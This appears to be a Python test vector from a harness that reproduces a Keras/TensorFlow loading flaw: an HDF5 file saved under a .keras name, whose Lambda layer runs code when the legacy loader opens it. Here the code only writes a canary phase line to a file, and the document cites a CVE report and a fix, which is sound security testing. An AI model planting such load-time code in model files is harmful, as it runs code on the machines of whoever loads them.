"""An HDF5 file under a .keras name: TF <= 2.12 writes it, and some readers route it to the HDF5 loader.

model.save("model.keras") writes HDF5 in TF 2.0-2.12 (the .keras zip came in 2.13); in TF 2.13-2.15 and
tf-keras, load_model sends a .keras name that is not a zip to the legacy HDF5 loader, where a Lambda's
bytecode runs with no safe_mode check. Where the save writes a zip, the file is the same model saved to
HDF5 and renamed. Its Lambda appends the phase to $KC_CANARY whenever its bytecode runs.
"""
import numpy as np
import tensorflow as tf

from runner.harness import crafting

keras = tf.keras

SOURCE = "https://github.com/io-no/CVE-Reports/issues/7"
CLAIM = "An HDF5 file named model.keras is loaded by the legacy HDF5 loader in TF 2.13-2.15 and tf-keras, which runs Lambda bytecode without a safe_mode check."
FIX = "Re-save old .keras (HDF5) files as real .keras zips, or rename them .h5; load only files you trust."
CANARY = True
# What a vector does depends on the Keras that loads it, not the one that wrote it: each env loads the file
# it crafted itself (the vector table), not other envs' copies.
PAIRS = "same"

x = np.linspace(-1.0, 1.0, 12, dtype="float32").reshape(3, 4)
y = x * 3.0


def build():
    inputs = keras.Input(shape=(4,))
    hidden = keras.layers.Dense(4, name="dense")(inputs)
    outputs = keras.layers.Lambda(
        lambda v: [
            __import__("os").environ.get("KC_CANARY")
            and open(__import__("os").environ["KC_CANARY"], "a").write(
                __import__("os").environ.get("KC_CANARY_PHASE", "?") + "\n"),
            v,
        ][1]
    )(hidden)
    return keras.Model(inputs, outputs)


def craft(fmt, path, model):
    if fmt != "keras":
        raise crafting.Unsupported("the vector is a .keras name on an HDF5 file, not a %s artifact" % fmt)
    if not crafting.is_hdf5(path):  # TF >= 2.13 wrote a zip: the same model in HDF5, under the .keras name
        crafting.save_hdf5_as(model, path)


# %% train

# %% serve

# %% rebuild
